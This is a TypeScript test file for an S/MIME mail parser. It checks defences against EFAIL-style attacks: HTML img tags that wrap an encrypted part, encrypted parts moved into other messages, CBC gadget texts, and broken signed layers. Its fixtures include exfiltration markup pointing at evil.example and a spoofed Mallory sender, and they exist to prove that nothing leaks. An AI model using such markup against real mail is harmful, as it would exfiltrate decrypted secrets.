import { describe, expect, it } from "vitest";
import { certificate } from "../../testing/certificate-builder.ts";
import { envelope } from "../../testing/envelope-builder.ts";
import {
  bytesOf,
  HEADER,
  identityOf,
  lines,
  open,
  opaque,
  ROOT,
  signedMail,
  textEntity,
  textOf,
} from "../../testing/mail-builder.ts";
import { leafText } from "../mime/transfer-encoding.ts";

const BOB = certificate().subject("CN=Bob").email("bob@example.com").key("rsa-2048").issuedBy(ROOT).build();
const identities = [await identityOf(BOB)];
const SECRET = textEntity("The secret.");
const encrypted = (content = SECRET, header: readonly string[] = []) =>
  opaque(envelope({ content, recipient: BOB }), header);

function multipart(type: string, ...parts: readonly string[]): Uint8Array {
  const body = parts.flatMap((part) => ["--out", part]);
  return bytesOf(lines(...HEADER, `Content-Type: ${type}; boundary=out`, "", ...body, "--out--", ""));
}

const html = (text: string) => lines("Content-Type: text/html", "", text);
const QUOTE = [html('<img src="http://evil.example/'), html('">')] as const;
const around = (type: string) => multipart(type, QUOTE[0], textOf(encrypted()), QUOTE[1]);
const TYPES = ["multipart/mixed", "multipart/related", "multipart/alternative"] as const;

describe("attack 23: HTML that is opened before an encrypted part and closed behind it", () => {
  it.each(TYPES)("never gets the decrypted text: it is no part of the message, %s", async (type) => {
    const { parts, verdict, layers } = await open(around(type), { identities });
    expect(
      parts.map(({ entity }) => (entity.contentType.type === "text/html" ? leafText(entity) : "")).join(""),
    ).not.toContain("secret");
    expect([layers, verdict.encryption]).toEqual([[], "none"]);
  });

  it("keeps each part of a decrypted text a part of its own", async () => {
    const inner = multipart("multipart/mixed", ...QUOTE.map((part) => part), textOf(SECRET));
    const { parts } = await open(encrypted(inner, HEADER), { identities });
    expect(parts.map(({ entity }) => leafText(entity))).toEqual([
      '<img src="http://evil.example/',
      '">',
      "The secret.",
    ]);
  });
});

describe("attack 32: an encrypted part moved into another message", () => {
  it.each(TYPES)("is not decrypted below the root unless it is asked for, %s", async (type) => {
    const { nested, verdict } = await open(around(type), { identities });
    expect(nested).toMatchObject([{ path: "2", type: "enveloped-data", opened: null }]);
    expect(verdict.encryption).toBe("none");
  });

  it("is opened on its own where it is asked for, with nothing of the message around it", async () => {
    const { nested, parts } = await open(around("multipart/mixed"), { identities, nested: true });
    expect(nested[0]?.opened).toMatchObject({
      verdict: { encryption: "unauthenticated", signature: "none", sender: "none" },
    });
    expect(parts.every(({ covered }) => covered === "none")).toBe(true);
  });

  it("is not decrypted in an attached message, nor below a multipart that is signed as a whole", async () => {
    const attached = multipart(
      "multipart/mixed",
      lines("Content-Type: message/rfc822", "", textOf(encrypted(SECRET, HEADER))),
    );
    const signed = signedMail(
      bytesOf(lines("Content-Type: multipart/mixed; boundary=in", "", "--in", textOf(encrypted()), "--in--")),
    );
    for (const message of [attached, signed]) {
      const { nested, verdict } = await open(message, { identities });
      expect(nested).toMatchObject([{ type: "enveloped-data", opened: null }]);
      expect(verdict.encryption).toBe("none");
    }
  });

  it("is told by its protected header: another subject, and other people", async () => {
    const inner = bytesOf(
      lines(
        ...['Content-Type: text/plain; hp="cipher"', "From: carol@example.com", "Subject: For Bob alone"],
        ...[
          "HP-Outer: From: carol@example.com",
          "HP-Outer: Subject: [...]",
          "HP-Outer: To: bob@example.com",
          "",
          "text",
        ],
      ),
    );
    const moved = [
      "From: Mallory <mallory@evil.example>",
      "To: bob@example.com, mallory@evil.example",
      "Subject: Hello",
    ];
    const { verdict, protectedHeader } = await open(encrypted(inner, moved), { identities });
    expect(verdict.reasons).toContain("outer-headers-differ");
    expect(protectedHeader).toMatchObject({ subject: "For Bob alone", fromAddresses: ["carol@example.com"] });
  });
});

describe("attack 24: CBC blocks put together to a text", () => {
  /** As the gadgets leave it: random octets where a block was changed. */
  const gadget = bytesOf(lines("\x8f\x02\xe1Content-type: text/html", "", '<img src="http://evil.example/?'));

  it("is marked as unauthenticated, and as no MIME where its head is broken", async () => {
    const { verdict } = await open(encrypted(gadget, HEADER), { identities });
    expect(verdict).toMatchObject({ encryption: "unauthenticated", signature: "none" });
    expect(verdict.reasons).toContain("content-not-mime");
  });

  it("is marked where it has no head at all, or random octets in a field", async () => {
    for (const head of ["just text", "Content-Type: text/html\r\nX-Gadget: \x01\x02"]) {
      const { verdict } = await open(encrypted(bytesOf(lines(head, "", "text")), HEADER), { identities });
      expect(verdict.reasons).toContain("content-not-mime");
    }
  });

  it("says nothing of a text with a sane head, and never calls CBC authenticated", async () => {
    const { verdict } = await open(encrypted(SECRET, HEADER), { identities });
    expect(verdict.reasons).not.toContain("content-not-mime");
    expect(verdict.encryption).toBe("unauthenticated");
  });
});

describe("a broken layer inside an encrypted one (RFC 9787 section 6)", () => {
  const broken = [
    ["signed over another text", signedMail(SECRET, { digestOf: textEntity("other") }, { header: [] })],
    ["signed by nobody", signedMail(SECRET, {}, { header: [], signers: [] })],
    [
      "whose signature is no CMS",
      bytesOf(
        textOf(signedMail(SECRET, {}, { header: [] })).replace(/(?<=base64\r\n\r\n)[\s\S]*(?=\r\n--sig--)/, "AAAA"),
      ),
    ],
  ] as const;

  it.each(broken)("looks no better than none: %s", async (_name, inner) => {
    const [worse, plain] = [
      await open(encrypted(inner, HEADER), { identities }),
      await open(encrypted(SECRET, HEADER), { identities }),
    ];
    expect(["invalid", "none"]).toContain(worse.verdict.signature);
    expect(worse.verdict.encryption).toBe(plain.verdict.encryption);
    expect(worse.parts.map(({ covered }) => covered)).toEqual(plain.parts.map(({ covered }) => covered));
  });

  it("is a failed decryption where it cannot be read at all, whatever is wrong", async () => {
    const { verdict, content } = await open(encrypted(opaque(Uint8Array.of(0x30, 0x80, 6), []), HEADER), {
      identities,
    });
    expect([content, verdict.encryption, verdict.signature]).toEqual([null, "cannot-decrypt", "none"]);
  });
});
